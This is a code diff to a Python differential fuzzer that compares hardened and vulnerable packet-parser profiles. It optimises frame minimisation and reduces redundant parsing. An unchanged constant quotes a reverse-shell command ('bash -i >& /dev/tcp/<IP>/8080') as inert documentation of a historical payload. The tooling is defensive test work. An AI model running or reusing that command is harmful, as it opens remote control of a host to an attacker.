@@ -34,6 +34,7 @@ from .packet import (
     EthernetHeader,
     Ipv4Header,
     MplsLse,
+    ParseStatus,
     RawFrame,
     TextEnum,
     decode_lse,
@@ -55,6 +56,8 @@ STRATEGIES = ("bitflip", "byteflip", "field-splice", "length-truncate", "lse-dup
 # Reproduced in reports as inert documentation of what the historical payload
 # did; nothing in this package executes or emits it.
 REMOTE_SHELL_NOTE = 'historical payload spawned: bash -i >& /dev/tcp/<IP>/8080 (never executed here)'
+
+_MALFORMED = ParseStatus.MALFORMED
 
 
 class PayloadTooLarge(ValueError):
@@ -300,23 +303,31 @@ class FuzzReport:
         return frames
 
 
-def _frame_triggers(data: bytes, cls: VulnClass, profiles: Sequence[ParserProfile]) -> bool:
-    if not data:
-        return False
-    frame = RawFrame(data, len(data))
-    for profile in profiles:
-        result = extract(frame, 0, profile)
-        if result.events and classify_events(result.events) is cls:
-            return True
-    return False
-
-
 def minimize(frame: RawFrame, cls: VulnClass, profiles: Sequence[ParserProfile]) -> RawFrame:
-    """Greedy 1-octet suffix-then-prefix truncation while the class persists."""
+    """Greedy 1-octet suffix-then-prefix truncation while the class persists.
+
+    A candidate keeps the class when any profile's extraction emits it. The
+    profile that emitted it last is asked first: extraction is pure, so the
+    order cannot change the answer, only how many profiles are asked.
+    """
+    order = list(profiles)
+
+    def triggers(data: bytes) -> bool:
+        if not data:
+            return False
+        candidate = RawFrame(data, len(data))
+        for index, profile in enumerate(order):
+            events = extract(candidate, 0, profile).events
+            if events and classify_events(events) is cls:
+                if index:
+                    order.insert(0, order.pop(index))
+                return True
+        return False
+
     data = frame.data
-    while len(data) > 1 and _frame_triggers(data[:-1], cls, profiles):
+    while len(data) > 1 and triggers(data[:-1]):
         data = data[:-1]
-    while len(data) > 1 and _frame_triggers(data[1:], cls, profiles):
+    while len(data) > 1 and triggers(data[1:]):
         data = data[1:]
     return RawFrame(data, len(data))
 
@@ -337,11 +348,22 @@ def diff_fuzz(
     extracted or mutated; they are skipped and counted in ``empty_seeds``.
     """
     profiles = tuple(profiles)
-    if not any(p.mode is ParserMode.HARDENED for p in profiles):
+    hardened = tuple(p for p in profiles if p.mode is ParserMode.HARDENED)
+    vulnerable = tuple(p for p in profiles if p.mode is not ParserMode.HARDENED)
+    if not hardened:
         raise ValueError("profiles must include the hardened parser")
-    if not any(p.mode is not ParserMode.HARDENED for p in profiles):
+    if not vulnerable:
         raise ValueError("profiles must include at least one vulnerable parser")
     seeds = _non_empty(corpus)
+    # A frame no hardened profile finds MALFORMED takes the same walk under
+    # every vulnerable profile of one label limit (extract's module
+    # docstring), so the first vulnerable profile of each limit parses it for
+    # all of them. The hardened profiles always parse on their own, so
+    # comparing keys stays a real check.
+    leaders: dict[int, ParserProfile] = {}
+    for profile in vulnerable:
+        leaders.setdefault(profile.label_limit, profile)
+    n_hardened = len(hardened)
 
     class_counts: dict[VulnClass, int] = {}
     candidates: dict[VulnClass, tuple[int, bytes]] = {}
@@ -351,13 +373,18 @@ def diff_fuzz(
 
     def consider(frame: RawFrame) -> None:
         nonlocal hardened_events, violations, violation_best
-        results = [extract(frame, 0, profile) for profile in profiles]
+        results = [extract(frame, 0, profile) for profile in hardened]
+        if any(result.key.parse_status is _MALFORMED for result in results):
+            results += [extract(frame, 0, profile) for profile in vulnerable]
+        else:
+            parsed = {limit: extract(frame, 0, leader) for limit, leader in leaders.items()}
+            results += [parsed[profile.label_limit] for profile in vulnerable]
         saw_event = False
-        for profile, result in zip(profiles, results):
+        for index, result in enumerate(results):
             if not result.events:
                 continue
             saw_event = True
-            if profile.mode is ParserMode.HARDENED:
+            if index < n_hardened:
                 hardened_events += 1
             cls = classify_events(result.events)
             class_counts[cls] = class_counts.get(cls, 0) + 1
